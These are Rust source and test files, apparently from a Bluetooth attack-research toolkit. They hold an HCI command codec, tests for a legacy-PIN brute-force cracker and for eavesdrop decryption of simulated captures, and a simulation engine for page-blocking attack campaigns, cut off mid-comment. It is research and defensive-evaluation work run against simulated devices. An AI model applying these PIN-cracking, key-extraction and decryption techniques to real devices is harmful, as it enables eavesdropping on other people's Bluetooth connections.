                p.extend_from_slice(&padded);
            }
            Command::PinCodeRequestNegativeReply { bd_addr } => {
                p.extend_from_slice(&bd_addr.to_le_bytes());
            }
            Command::AuthenticationRequested { handle } => {
                p.extend_from_slice(&handle.raw().to_le_bytes());
            }
            Command::SetConnectionEncryption { handle, enable } => {
                p.extend_from_slice(&handle.raw().to_le_bytes());
                p.push(*enable as u8);
            }
            Command::IoCapabilityRequestReply {
                bd_addr,
                io_capability,
                oob_data_present,
                auth_requirements,
            } => {
                p.extend_from_slice(&bd_addr.to_le_bytes());
                p.push(*io_capability as u8);
                p.push(*oob_data_present as u8);
                p.push(*auth_requirements);
            }
            Command::UserConfirmationRequestReply { bd_addr }
            | Command::UserConfirmationRequestNegativeReply { bd_addr } => {
                p.extend_from_slice(&bd_addr.to_le_bytes());
            }
            Command::WriteLocalName { name } => {
                let bytes = name.as_str().as_bytes();
                p.extend_from_slice(bytes);
                p.resize(p.len() + (248 - bytes.len()), 0);
            }
            Command::WriteScanEnable {
                inquiry_scan,
                page_scan,
            } => p.push((*inquiry_scan as u8) | ((*page_scan as u8) << 1)),
            Command::WriteClassOfDevice { cod } => p.extend_from_slice(&cod.to_le_bytes()),
            Command::WriteSimplePairingMode { enabled } => p.push(*enabled as u8),
        }
    }

    /// Decodes a command from its wire bytes.
    ///
    /// # Errors
    ///
    /// Returns a [`DecodeError`] on truncation, length mismatch, out-of-range
    /// fields, or an opcode outside the modelled command set.
    pub fn decode(bytes: &[u8]) -> Result<Self, DecodeError> {
        need(bytes, 3, "command header")?;
        let opcode = Opcode::from_raw(u16::from_le_bytes([bytes[0], bytes[1]]));
        let declared = bytes[2] as usize;
        let params = &bytes[3..];
        if params.len() != declared {
            return Err(DecodeError::LengthMismatch {
                context: "command parameters",
                declared,
                actual: params.len(),
            });
        }
        Self::decode_params(opcode, params)
    }

    fn decode_params(opcode: Opcode, p: &[u8]) -> Result<Self, DecodeError> {
        let take_addr =
            |p: &[u8]| -> BdAddr { BdAddr::from_le_bytes([p[0], p[1], p[2], p[3], p[4], p[5]]) };
        match opcode {
            Opcode::INQUIRY => {
                need(p, 5, "HCI_Inquiry")?;
                Ok(Command::Inquiry {
                    inquiry_length: p[3],
                    num_responses: p[4],
                })
            }
            Opcode::INQUIRY_CANCEL => Ok(Command::InquiryCancel),
            Opcode::CREATE_CONNECTION => {
                need(p, 13, "HCI_Create_Connection")?;
                Ok(Command::CreateConnection {
                    bd_addr: take_addr(p),
                    allow_role_switch: p[12] != 0,
                })
            }
            Opcode::DISCONNECT => {
                need(p, 3, "HCI_Disconnect")?;
                let reason = StatusCode::from_u8(p[2]).ok_or(DecodeError::InvalidField {
                    context: "disconnect reason",
                    value: p[2] as u64,
                })?;
                Ok(Command::Disconnect {
                    handle: ConnectionHandle::new(u16::from_le_bytes([p[0], p[1]])),
                    reason,
                })
            }
            Opcode::ACCEPT_CONNECTION_REQUEST => {
                need(p, 7, "HCI_Accept_Connection_Request")?;
                Ok(Command::AcceptConnectionRequest {
                    bd_addr: take_addr(p),
                    role_switch: p[6] == 0,
                })
            }
            Opcode::REJECT_CONNECTION_REQUEST => {
                need(p, 7, "HCI_Reject_Connection_Request")?;
                let reason = StatusCode::from_u8(p[6]).ok_or(DecodeError::InvalidField {
                    context: "rejection reason",
                    value: p[6] as u64,
                })?;
                Ok(Command::RejectConnectionRequest {
                    bd_addr: take_addr(p),
                    reason,
                })
            }
            Opcode::LINK_KEY_REQUEST_REPLY => {
                need(p, 22, "HCI_Link_Key_Request_Reply")?;
                let mut key = [0u8; 16];
                key.copy_from_slice(&p[6..22]);
                Ok(Command::LinkKeyRequestReply {
                    bd_addr: take_addr(p),
                    link_key: LinkKey::from_le_bytes(key),
                })
            }
            Opcode::LINK_KEY_REQUEST_NEGATIVE_REPLY => {
                need(p, 6, "HCI_Link_Key_Request_Negative_Reply")?;
                Ok(Command::LinkKeyRequestNegativeReply {
                    bd_addr: take_addr(p),
                })
            }
            Opcode::PIN_CODE_REQUEST_REPLY => {
                need(p, 23, "HCI_PIN_Code_Request_Reply")?;
                let len = p[6] as usize;
                if len == 0 || len > 16 {
                    return Err(DecodeError::InvalidField {
                        context: "PIN length",
                        value: len as u64,
                    });
                }
                Ok(Command::PinCodeRequestReply {
                    bd_addr: take_addr(p),
                    pin: p[7..7 + len].to_vec(),
                })
            }
            Opcode::PIN_CODE_REQUEST_NEGATIVE_REPLY => {
                need(p, 6, "HCI_PIN_Code_Request_Negative_Reply")?;
                Ok(Command::PinCodeRequestNegativeReply {
                    bd_addr: take_addr(p),
                })
            }
            Opcode::AUTHENTICATION_REQUESTED => {
                need(p, 2, "HCI_Authentication_Requested")?;
                Ok(Command::AuthenticationRequested {
                    handle: ConnectionHandle::new(u16::from_le_bytes([p[0], p[1]])),
                })
            }
            Opcode::SET_CONNECTION_ENCRYPTION => {
                need(p, 3, "HCI_Set_Connection_Encryption")?;
                Ok(Command::SetConnectionEncryption {
                    handle: ConnectionHandle::new(u16::from_le_bytes([p[0], p[1]])),
                    enable: p[2] != 0,
                })
            }
            Opcode::IO_CAPABILITY_REQUEST_REPLY => {
                need(p, 9, "HCI_IO_Capability_Request_Reply")?;
                let io = IoCapability::from_u8(p[6]).ok_or(DecodeError::InvalidField {
                    context: "io capability",
                    value: p[6] as u64,
                })?;
                Ok(Command::IoCapabilityRequestReply {
                    bd_addr: take_addr(p),
                    io_capability: io,
                    oob_data_present: p[7] != 0,
                    auth_requirements: p[8],
                })
            }
            Opcode::USER_CONFIRMATION_REQUEST_REPLY => {
                need(p, 6, "HCI_User_Confirmation_Request_Reply")?;
                Ok(Command::UserConfirmationRequestReply {
                    bd_addr: take_addr(p),
                })
            }
            Opcode::USER_CONFIRMATION_REQUEST_NEGATIVE_REPLY => {
                need(p, 6, "HCI_User_Confirmation_Request_Negative_Reply")?;
                Ok(Command::UserConfirmationRequestNegativeReply {
                    bd_addr: take_addr(p),
                })
            }
            Opcode::RESET => Ok(Command::Reset),
            Opcode::WRITE_LOCAL_NAME => {
                need(p, 1, "HCI_Write_Local_Name")?;
                let end = p.iter().position(|b| *b == 0).unwrap_or(p.len());
                let name = String::from_utf8_lossy(&p[..end]).into_owned();
                Ok(Command::WriteLocalName {
                    name: DeviceName::new(name),
                })
            }
            Opcode::WRITE_SCAN_ENABLE => {
                need(p, 1, "HCI_Write_Scan_Enable")?;
                Ok(Command::WriteScanEnable {
                    inquiry_scan: p[0] & 0x01 != 0,
                    page_scan: p[0] & 0x02 != 0,
                })
            }
            Opcode::WRITE_CLASS_OF_DEVICE => {
                need(p, 3, "HCI_Write_Class_Of_Device")?;
                Ok(Command::WriteClassOfDevice {
                    cod: ClassOfDevice::from_le_bytes([p[0], p[1], p[2]]),
                })
            }
            Opcode::WRITE_SIMPLE_PAIRING_MODE => {
                need(p, 1, "HCI_Write_Simple_Pairing_Mode")?;
                Ok(Command::WriteSimplePairingMode { enabled: p[0] != 0 })
            }
            other => Err(DecodeError::Unsupported {
                context: "command opcode",
                value: other.raw() as u64,
            }),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn addr() -> BdAddr {
        "00:1b:7d:da:71:0a".parse().unwrap()
    }

    fn key() -> LinkKey {
        "c4f16e949f04ee9c0fd6b1023389c324".parse().unwrap()
    }

    fn all_commands() -> Vec<Command> {
        vec![
            Command::Inquiry {
                inquiry_length: 8,
                num_responses: 0,
            },
            Command::InquiryCancel,
            Command::CreateConnection {
                bd_addr: addr(),
                allow_role_switch: true,
            },
            Command::Disconnect {
                handle: ConnectionHandle::new(6),
                reason: StatusCode::RemoteUserTerminated,
            },
            Command::AcceptConnectionRequest {
                bd_addr: addr(),
                role_switch: false,
            },
            Command::RejectConnectionRequest {
                bd_addr: addr(),
                reason: StatusCode::ConnectionRejectedSecurity,
            },
            Command::LinkKeyRequestReply {
                bd_addr: addr(),
                link_key: key(),
            },
            Command::LinkKeyRequestNegativeReply { bd_addr: addr() },
            Command::PinCodeRequestReply {
                bd_addr: addr(),
                pin: b"0000".to_vec(),
            },
            Command::PinCodeRequestNegativeReply { bd_addr: addr() },
            Command::AuthenticationRequested {
                handle: ConnectionHandle::new(3),
            },
            Command::SetConnectionEncryption {
                handle: ConnectionHandle::new(3),
                enable: true,
            },
            Command::IoCapabilityRequestReply {
                bd_addr: addr(),
                io_capability: IoCapability::NoInputNoOutput,
                oob_data_present: false,
                auth_requirements: 0x03,
            },
            Command::UserConfirmationRequestReply { bd_addr: addr() },
            Command::UserConfirmationRequestNegativeReply { bd_addr: addr() },
            Command::Reset,
            Command::WriteLocalName {
                name: DeviceName::new("VELVET"),
            },
            Command::WriteScanEnable {
                inquiry_scan: true,
                page_scan: true,
            },
            Command::WriteClassOfDevice {
                cod: ClassOfDevice::HANDS_FREE,
            },
            Command::WriteSimplePairingMode { enabled: true },
        ]
    }

    #[test]
    fn encode_decode_round_trip_all_commands() {
        for cmd in all_commands() {
            let bytes = cmd.encode();
            let decoded = Command::decode(&bytes).unwrap_or_else(|e| {
                panic!("decode failed for {}: {e}", cmd.name());
            });
            assert_eq!(decoded, cmd, "round trip mismatch for {}", cmd.name());
        }
    }

    #[test]
    fn link_key_reply_wire_layout_matches_paper() {
        // Fig 11a: the command starts "0b 04 16", then the LE address, then
        // the LE link key.
        let cmd = Command::LinkKeyRequestReply {
            bd_addr: addr(),
            link_key: key(),
        };
        let bytes = cmd.encode();
        assert_eq!(&bytes[..3], &[0x0b, 0x04, 0x16]);
        // LE address: 0a 71 da 7d 1b 00.
        assert_eq!(&bytes[3..9], &[0x0a, 0x71, 0xda, 0x7d, 0x1b, 0x00]);
        // LE key: 24 c3 89 02 b1 d6 0f 9c ee 04 9f 94 6e f1 c4 — reversed
        // display order.
        assert_eq!(bytes[9], 0x24);
        assert_eq!(bytes[24], 0xc4);
        assert_eq!(bytes.len(), 3 + 22);
    }

    #[test]
    fn declared_length_must_match() {
        let mut bytes = Command::Reset.encode();
        bytes[2] = 5; // claim five parameter bytes
        assert!(matches!(
            Command::decode(&bytes),
            Err(DecodeError::LengthMismatch { .. })
        ));
    }

    #[test]
    fn truncated_header_rejected() {
        assert!(matches!(
            Command::decode(&[0x0b]),
            Err(DecodeError::Truncated { .. })
        ));
    }

    #[test]
    fn unknown_opcode_rejected() {
        let bytes = vec![0xFF, 0xFF, 0x00];
        assert!(matches!(
            Command::decode(&bytes),
            Err(DecodeError::Unsupported { .. })
        ));
    }

    #[test]
    fn invalid_io_capability_rejected() {
        let mut bytes = Command::IoCapabilityRequestReply {
            bd_addr: addr(),
            io_capability: IoCapability::DisplayYesNo,
            oob_data_present: false,
            auth_requirements: 0,
        }
        .encode();
        bytes[3 + 6] = 0x07; // out-of-range capability
        assert!(matches!(
            Command::decode(&bytes),
            Err(DecodeError::InvalidField { .. })
        ));
    }

    #[test]
    fn scan_enable_bits() {
        let cmd = Command::WriteScanEnable {
            inquiry_scan: false,
            page_scan: true,
        };
        assert_eq!(cmd.encode()[3], 0x02);
    }
}
