//! Codec errors.

use std::error::Error;
use std::fmt;

/// Error produced when decoding HCI wire bytes fails.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DecodeError {
    /// The buffer ended before the structure was complete.
    Truncated {
        /// What was being decoded.
        context: &'static str,
        /// Bytes required.
        needed: usize,
        /// Bytes available.
        available: usize,
    },
    /// A length field disagreed with the actual payload size.
    LengthMismatch {
        /// What was being decoded.
        context: &'static str,
        /// Declared length.
        declared: usize,
        /// Actual length.
        actual: usize,
    },
    /// A field held a value outside its legal range.
    InvalidField {
        /// What was being decoded.
        context: &'static str,
        /// The offending value.
        value: u64,
    },
    /// The packet-type / event-code / opcode is not one this model supports.
    Unsupported {
        /// What was being decoded.
        context: &'static str,
        /// The unrecognized discriminator value.
        value: u64,
    },
}

impl fmt::Display for DecodeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DecodeError::Truncated {
                context,
                needed,
                available,
            } => write!(
                f,
                "truncated {context}: needed {needed} bytes, had {available}"
            ),
            DecodeError::LengthMismatch {
                context,
                declared,
                actual,
            } => write!(
                f,
                "length mismatch in {context}: declared {declared}, actual {actual}"
            ),
            DecodeError::InvalidField { context, value } => {
                write!(f, "invalid field in {context}: value {value:#x}")
            }
            DecodeError::Unsupported { context, value } => {
                write!(f, "unsupported {context}: {value:#x}")
            }
        }
    }
}

impl Error for DecodeError {}

/// Bounds-checks `buf` for `needed` bytes.
pub(crate) fn need(buf: &[u8], needed: usize, context: &'static str) -> Result<(), DecodeError> {
    if buf.len() < needed {
        Err(DecodeError::Truncated {
            context,
            needed,
            available: buf.len(),
        })
    } else {
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn messages_are_descriptive() {
        let err = DecodeError::Truncated {
            context: "event header",
            needed: 2,
            available: 1,
        };
        assert!(err.to_string().contains("event header"));
        let err = DecodeError::Unsupported {
            context: "event code",
            value: 0x99,
        };
        assert!(err.to_string().contains("0x99"));
    }

    #[test]
    fn need_checks_bounds() {
        assert!(need(&[0u8; 4], 4, "x").is_ok());
        assert!(need(&[0u8; 3], 4, "x").is_err());
    }

    #[test]
    fn error_is_send_sync() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<DecodeError>();
    }
}
