//! Property tests pinning the batched PIN-cracking pipeline to the scalar
//! reference: for arbitrary sniffed challenges and candidate windows, every
//! batch lane verdict must equal the scalar `check_pin` verdict, and the
//! batched sweep must reproduce the serial scalar scan bit for bit.

use blap::legacy_pin::{
    crack_numeric_pin_reference, crack_numeric_pin_with, LegacyPairingCapture, PinCracker,
};
use blap::runner::Jobs;
use blap_crypto::batch::{Batch16, LANES};
use blap_crypto::e1::AugmentedPin;
use blap_types::BdAddr;
use proptest::prelude::*;

fn capture_from(
    addr_a: [u8; 6],
    addr_b: [u8; 6],
    pin: &[u8],
    rand_bytes: [u8; 64],
) -> LegacyPairingCapture {
    let rands: [[u8; 16]; 4] =
        core::array::from_fn(|n| core::array::from_fn(|i| rand_bytes[n * 16 + i]));
    LegacyPairingCapture::synthesize(
        BdAddr::new(addr_a),
        BdAddr::new(addr_b),
        pin,
        rands[0],
        rands[1],
        rands[2],
        rands[3],
    )
}

proptest! {
    #[test]
    fn batch_verdicts_equal_scalar_verdicts(
        addr_a in any::<[u8; 6]>(),
        addr_b in any::<[u8; 6]>(),
        rands in any::<[u8; 64]>(),
        digits in 4u32..=6,
        planted_offset in 0u64..200,
        window_start in 0u64..200,
    ) {
        // Plant a PIN near the candidate window so some windows contain it
        // (hit lane) and some do not (all-miss mask).
        let planted = format!("{:0width$}", planted_offset, width = digits as usize);
        let capture = capture_from(addr_a, addr_b, planted.as_bytes(), rands);
        let cracker = PinCracker::new(&capture);

        let first = format!("{:0width$}", window_start, width = digits as usize);
        let mut aug = AugmentedPin::new(first.as_bytes(), capture.responder);
        let e22_y = Batch16::splat(&aug.e22_input(&capture.in_rand));
        let mut lane_keys = [[0u8; 16]; LANES];
        let mut pins = Vec::new();
        for (lane, key) in lane_keys.iter_mut().enumerate() {
            let pin = format!(
                "{:0width$}",
                window_start + lane as u64,
                width = digits as usize
            );
            aug.set_pin(pin.as_bytes());
            *key = aug.safer_key();
            pins.push(pin);
        }
        let mask = cracker.check_batch(&e22_y, &Batch16::from_lanes(&lane_keys));
        for (lane, pin) in pins.iter().enumerate() {
            prop_assert_eq!(
                mask & (1 << lane) != 0,
                capture.check_pin(pin.as_bytes()).is_some(),
                "lane {} (PIN {}) disagrees with the scalar verdict",
                lane,
                pin
            );
        }
    }

    #[test]
    fn batched_sweep_equals_scalar_reference_sweep(
        addr_a in any::<[u8; 6]>(),
        addr_b in any::<[u8; 6]>(),
        rands in any::<[u8; 64]>(),
        digits in 1u32..=4,
        planted_offset in 0u64..300,
    ) {
        let space = 10u64.pow(digits);
        let planted = format!(
            "{:0width$}",
            planted_offset % space,
            width = digits as usize
        );
        let capture = capture_from(addr_a, addr_b, planted.as_bytes(), rands);
        let reference = crack_numeric_pin_reference(&capture, digits);
        prop_assert!(reference.is_some(), "reference must find the planted PIN");
        for jobs in [1, 3] {
            prop_assert_eq!(
                &crack_numeric_pin_with(&capture, digits, Jobs::new(jobs)),
                &reference,
                "{} jobs diverges from the scalar reference scan",
                jobs
            );
        }
    }
}
