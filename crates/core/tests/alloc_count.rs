//! Allocation accounting for the PIN-crack and eavesdrop inner loops.
//!
//! The batched sweeps hold per-candidate state on the stack or in
//! per-worker scratch reused across chunks: the odometer buffer, the E22
//! augmentation template, the splatted cipher input, and (for eavesdrop)
//! the `OpenBatch` plaintext arena. These tests pin that discipline with
//! the shared counting allocator from `blap_obs::prof` (feature
//! `prof-alloc`): a full sweep must cost a number of heap allocations
//! proportional to its *outputs* plus a small constant — never one per
//! candidate, per batch, or per frame × handle attempt.

use blap::eavesdrop::{decrypt_capture_batched, KeyConfirm};
use blap::legacy_pin::{crack_numeric_pin_with, LegacyPairingCapture};
use blap::runner::Jobs;
use blap::{addrs, extract};
use blap_obs::prof;
use blap_sim::{profiles, SniffedFrame, World};
use blap_types::{BdAddr, Duration, LinkKey, ServiceUuid};

#[global_allocator]
static GLOBAL: prof::CountingAlloc = prof::CountingAlloc;

/// The exact-count assertions below read process-wide counters, so the
/// tests in this binary must not allocate concurrently with each other's
/// measurement windows.
static SERIAL: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn allocations_during(f: impl FnOnce()) -> usize {
    let (count, _bytes) = prof::allocations_during(f);
    count as usize
}

fn capture_for(pin: &[u8]) -> LegacyPairingCapture {
    LegacyPairingCapture::synthesize(
        BdAddr::new([0x00, 0x1B, 0x7D, 0xDA, 0x71, 0x0A]),
        BdAddr::new([0xA4, 0x0E, 0x2B, 0x01, 0x02, 0x03]),
        pin,
        [0x11; 16],
        [0x22; 16],
        [0x33; 16],
        [0x44; 16],
    )
}

#[test]
fn exhaustive_miss_sweep_allocates_only_worker_scratch() {
    let _serial = SERIAL.lock().unwrap();
    // Plant a 6-digit PIN but sweep only up to 4 digits: all 11,110
    // candidates run the full batch verdict chain and miss.
    let capture = capture_for(b"987654");
    // Warm the process-wide SAFER+ table caches outside the window.
    assert!(crack_numeric_pin_with(&capture, 4, Jobs::new(1)).is_none());
    let count = allocations_during(|| {
        assert!(crack_numeric_pin_with(&capture, 4, Jobs::new(1)).is_none());
    });
    assert!(
        count <= 2,
        "an 11,110-candidate miss sweep must only allocate per-worker \
         scratch (got {count} allocations — is the inner loop allocating \
         per candidate or per batch?)"
    );
}

/// An encrypted-session capture plus the extracted key, built outside the
/// measurement windows (world simulation allocates freely, by design).
fn eavesdrop_capture() -> (Vec<SniffedFrame>, LinkKey, BdAddr, BdAddr) {
    let m_addr: BdAddr = addrs::M.parse().expect("valid address");
    let c_addr: BdAddr = addrs::C.parse().expect("valid address");
    let mut world = World::new(57);
    let _m = world.add_device(profiles::lg_velvet().victim_phone(addrs::M));
    let c = world.add_device(profiles::galaxy_s8().soft_target(addrs::C));
    world.device_mut(c).host.pair_with(m_addr);
    world.run_for(Duration::from_secs(5));
    world.device_mut(c).host.disconnect(m_addr);
    world.run_for(Duration::from_secs(2));
    world
        .device_mut(c)
        .host
        .connect_profile(m_addr, ServiceUuid::PBAP_PSE);
    world.run_for(Duration::from_secs(5));
    for i in 0..4u8 {
        world.device_mut(c).host.send_data(m_addr, vec![i; 48]);
        world.run_for(Duration::from_millis(100));
    }
    world.run_for(Duration::from_secs(1));
    let frames = world.sniffed_frames().to_vec();
    let key = extract::from_snoop_log(world.device(c), m_addr).expect("key extracted");
    (frames, key, c_addr, m_addr)
}

#[test]
fn batched_decrypt_allocates_per_plaintext_not_per_attempt() {
    let _serial = SERIAL.lock().unwrap();
    let (frames, key, c_addr, m_addr) = eavesdrop_capture();
    let plain = decrypt_capture_batched(&frames, key, c_addr, m_addr);
    assert!(!plain.is_empty(), "fixture must decrypt something");
    let count = allocations_during(|| {
        let out = decrypt_capture_batched(&frames, key, c_addr, m_addr);
        assert_eq!(out.len(), plain.len());
        std::hint::black_box(out);
    });
    // Budget: the returned plaintext `Vec`s (inherent to the signature)
    // plus the frame-view collects, the `OpenBatch` arena, and the CCM
    // context — never the scalar engine's fresh `Vec` per frame × handle
    // attempt.
    let budget = plain.len() + 16;
    assert!(
        count <= budget,
        "batched decrypt of {} frames must allocate O(plaintexts), got \
         {count} allocations (budget {budget}) — is a per-frame or \
         per-handle buffer back?",
        plain.len()
    );
}

#[test]
fn key_confirm_batch_reuses_scratch_across_calls() {
    let _serial = SERIAL.lock().unwrap();
    let (frames, key, c_addr, m_addr) = eavesdrop_capture();
    let mut confirm = KeyConfirm::new(&frames, c_addr, m_addr).expect("probe frame exists");
    let candidates = [key; 2];
    assert_eq!(confirm.check_batch(&candidates), 0b11);
    let count = allocations_during(|| {
        for _ in 0..10 {
            std::hint::black_box(confirm.check_batch(&candidates));
        }
    });
    // Each call re-derives the candidates' session keys (the `ssp`
    // functions build small message buffers) and collects the CCM
    // contexts — O(candidates) per call. The trial-decrypt scratch must
    // be reused: at 8 handle probes per call, per-probe regrowth would
    // add 80 allocations to this window.
    let budget = 10 * (2 + 4 * candidates.len());
    assert!(
        count <= budget,
        "check_batch must allocate O(candidates) per call, got {count} \
         (budget {budget}) — is the trial-decrypt scratch regrown per \
         handle probe?"
    );
}

#[test]
fn hit_sweep_allocates_scratch_and_result_only() {
    let _serial = SERIAL.lock().unwrap();
    let capture = capture_for(b"2042");
    assert!(crack_numeric_pin_with(&capture, 4, Jobs::new(1)).is_some());
    let count = allocations_during(|| {
        let result =
            crack_numeric_pin_with(&capture, 4, Jobs::new(1)).expect("planted PIN must be found");
        assert_eq!(result.pin, b"2042");
        std::hint::black_box(result);
    });
    assert!(
        count <= 4,
        "a hit sweep must only allocate scratch plus the returned result, \
         got {count} allocations"
    );
}
