//! Allocation accounting for the PIN-crack inner loop.
//!
//! The batched sweep holds all per-candidate state on the stack or in
//! per-worker scratch reused across chunks: the odometer buffer, the E22
//! augmentation template, and the splatted cipher input. These tests pin
//! that discipline with the shared counting allocator from
//! `blap_obs::prof` (feature `prof-alloc`): a full multi-thousand-candidate
//! sweep must cost a small constant number of heap allocations — the
//! scratch buffer and, on a hit, the returned PIN — never one per
//! candidate or per batch.

use blap::legacy_pin::{crack_numeric_pin_with, LegacyPairingCapture};
use blap::runner::Jobs;
use blap_obs::prof;
use blap_types::BdAddr;

#[global_allocator]
static GLOBAL: prof::CountingAlloc = prof::CountingAlloc;

/// The exact-count assertions below read process-wide counters, so the
/// tests in this binary must not allocate concurrently with each other's
/// measurement windows.
static SERIAL: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn allocations_during(f: impl FnOnce()) -> usize {
    let (count, _bytes) = prof::allocations_during(f);
    count as usize
}

fn capture_for(pin: &[u8]) -> LegacyPairingCapture {
    LegacyPairingCapture::synthesize(
        BdAddr::new([0x00, 0x1B, 0x7D, 0xDA, 0x71, 0x0A]),
        BdAddr::new([0xA4, 0x0E, 0x2B, 0x01, 0x02, 0x03]),
        pin,
        [0x11; 16],
        [0x22; 16],
        [0x33; 16],
        [0x44; 16],
    )
}

#[test]
fn exhaustive_miss_sweep_allocates_only_worker_scratch() {
    let _serial = SERIAL.lock().unwrap();
    // Plant a 6-digit PIN but sweep only up to 4 digits: all 11,110
    // candidates run the full batch verdict chain and miss.
    let capture = capture_for(b"987654");
    // Warm the process-wide SAFER+ table caches outside the window.
    assert!(crack_numeric_pin_with(&capture, 4, Jobs::new(1)).is_none());
    let count = allocations_during(|| {
        assert!(crack_numeric_pin_with(&capture, 4, Jobs::new(1)).is_none());
    });
    assert!(
        count <= 2,
        "an 11,110-candidate miss sweep must only allocate per-worker \
         scratch (got {count} allocations — is the inner loop allocating \
         per candidate or per batch?)"
    );
}

#[test]
fn hit_sweep_allocates_scratch_and_result_only() {
    let _serial = SERIAL.lock().unwrap();
    let capture = capture_for(b"2042");
    assert!(crack_numeric_pin_with(&capture, 4, Jobs::new(1)).is_some());
    let count = allocations_during(|| {
        let result =
            crack_numeric_pin_with(&capture, 4, Jobs::new(1)).expect("planted PIN must be found");
        assert_eq!(result.pin, b"2042");
        std::hint::black_box(result);
    });
    assert!(
        count <= 4,
        "a hit sweep must only allocate scratch plus the returned result, \
         got {count} allocations"
    );
}
