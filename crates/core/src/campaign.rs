//! Fleet-scale campaign engine: millions of independent trial worlds,
//! sharded across workers, aggregated into one bounded-size metrics bag.
//!
//! The batch drivers (`table1`, `table2`) run fixed small trial counts in
//! one configuration. A *campaign* sweeps a seeded **population** — a
//! distribution over device profiles, user behaviors, attack modes, and
//! timing — across an arbitrary trial count. Every trial builds its own
//! [`World`](blap_sim::World) (its own device state and scheduler heap;
//! nothing is shared between trials or shards) from a seed derived purely
//! from the campaign seed and the trial index, so the result is
//! byte-identical at any worker count.
//!
//! Scale comes from two properties:
//!
//! * **Sharding.** Trials are grouped into contiguous shards; a shard is
//!   the unit [`runner::parallel_map`] distributes. Within a shard trials
//!   run serially, folding each trial world's [`Metrics`] into one
//!   per-shard bag the moment the world is dropped — no traces are
//!   buffered, so memory stays bounded by the metric key vocabulary, not
//!   the trial count.
//! * **Commutative aggregation.** Per-shard bags merge in shard-index
//!   order ([`Metrics::merge`] is commutative *and associative*), so
//!   merging a prefix, checkpointing it to JSON, reloading, and merging
//!   the rest produces the same bytes as one straight run — the property
//!   the `blap-campaign` driver's checkpoint/resume rests on, pinned in
//!   `tests/parallel_determinism.rs`.

use blap_obs::{telemetry, Metrics, StreamSink, Tracer, ViolationSummary};
use blap_sim::{profiles, DeviceProfile, UserBehaviorMix};
use blap_types::Duration;

use crate::page_blocking::PageBlockingScenario;
use crate::runner::{self, Jobs};

/// A named, seeded distribution over trial configurations.
///
/// Everything a population draws — the victim profile, the attack mode,
/// the user's popup behavior, keep-alive traffic, the §VII-B mitigation,
/// and the user's pairing delay — is sampled from the trial index alone,
/// so two runs of the same `(population, seed, trials)` triple agree
/// trial-for-trial no matter how the work was scheduled.
#[derive(Clone, Debug)]
pub struct Population {
    /// The population's name (`--population` on the CLI).
    pub name: &'static str,
    /// Victim device pool with relative sampling weights.
    pub pool: Vec<(DeviceProfile, u32)>,
    /// Percent of trials (0–100) that run the page blocking attack; the
    /// rest run the baseline page race.
    pub blocking_percent: u8,
    /// Distribution over victim user behaviors.
    pub users: UserBehaviorMix,
    /// Percent of trials (0–100) where the attacker sends PLOC keep-alive
    /// traffic.
    pub keepalive_percent: u8,
    /// Percent of trials (0–100) where the victim runs the §VII-B
    /// role-check mitigation.
    pub mitigation_percent: u8,
    /// Bounds (inclusive, milliseconds) on the user's pairing delay after
    /// the PLOC connection.
    pub pairing_delay_ms: (u64, u64),
}

impl Population {
    /// The fleet mix: Table II devices under popularity weights, an even
    /// baseline/blocking split, mostly-trusting users, occasional missing
    /// keep-alives, no mitigation deployed.
    pub fn fleet() -> Population {
        Population {
            name: "fleet",
            pool: profiles::campaign_pool(),
            blocking_percent: 50,
            users: UserBehaviorMix { accept_percent: 90 },
            keepalive_percent: 80,
            mitigation_percent: 0,
            pairing_delay_ms: (500, 8000),
        }
    }

    /// The paper's Table II conditions, uniformly over its seven rows:
    /// all-blocking, accepting users, keep-alive on, 2 s pairing delay.
    pub fn table2() -> Population {
        Population {
            name: "table2",
            pool: profiles::table2_profiles()
                .into_iter()
                .map(|p| (p, 1))
                .collect(),
            blocking_percent: 100,
            users: UserBehaviorMix::always_accepting(),
            keepalive_percent: 100,
            mitigation_percent: 0,
            pairing_delay_ms: (2000, 2000),
        }
    }

    /// The fleet mix with the §VII-B role-check mitigation rolled out to
    /// half the victims — the deployment-ablation population.
    pub fn mitigated() -> Population {
        Population {
            name: "mitigated",
            mitigation_percent: 50,
            ..Population::fleet()
        }
    }

    /// Looks a population up by CLI name.
    pub fn by_name(name: &str) -> Option<Population> {
        match name {
            "fleet" => Some(Population::fleet()),
            "table2" => Some(Population::table2()),
            "mitigated" => Some(Population::mitigated()),
            _ => None,
        }
    }

    /// The names [`Population::by_name`] accepts.
    pub fn names() -> &'static [&'static str] {
        &["fleet", "table2", "mitigated"]
    }

    fn weight_total(&self) -> u64 {
        self.pool.iter().map(|(_, w)| u64::from(*w)).sum()
    }
}

/// One sampled trial configuration — pure function of `(population, seed,
/// trial)`, exposed so tests can pin the sampling independently of the
/// simulation.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct TrialSpec {
    /// Index into the population's pool.
    pub profile_index: usize,
    /// Page blocking (`true`) or baseline race (`false`).
    pub blocking: bool,
    /// Whether the victim's user accepts pairing popups.
    pub user_accepts: bool,
    /// Whether the attacker maintains PLOC with keep-alives.
    pub keepalive: bool,
    /// Whether the victim runs the §VII-B role-check mitigation.
    pub mitigate_role_check: bool,
    /// The user's pairing delay in milliseconds.
    pub pairing_delay_ms: u64,
}

/// A SplitMix64 stream over [`runner::seed_for`]-derived state: the
/// deterministic dice a trial's parameters are drawn with. Statistical
/// finery is irrelevant here; purity and spread are what matter.
struct SeedStream(u64);

impl SeedStream {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// A roll in `[0, n)`. Modulo bias is irrelevant at campaign scales
    /// (n is tiny against 2^64) and determinism is what's contracted.
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }

    fn percent(&mut self, p: u8) -> bool {
        self.below(100) < u64::from(p.min(100))
    }
}

/// Salt separating the parameter-sampling seed stream from the world
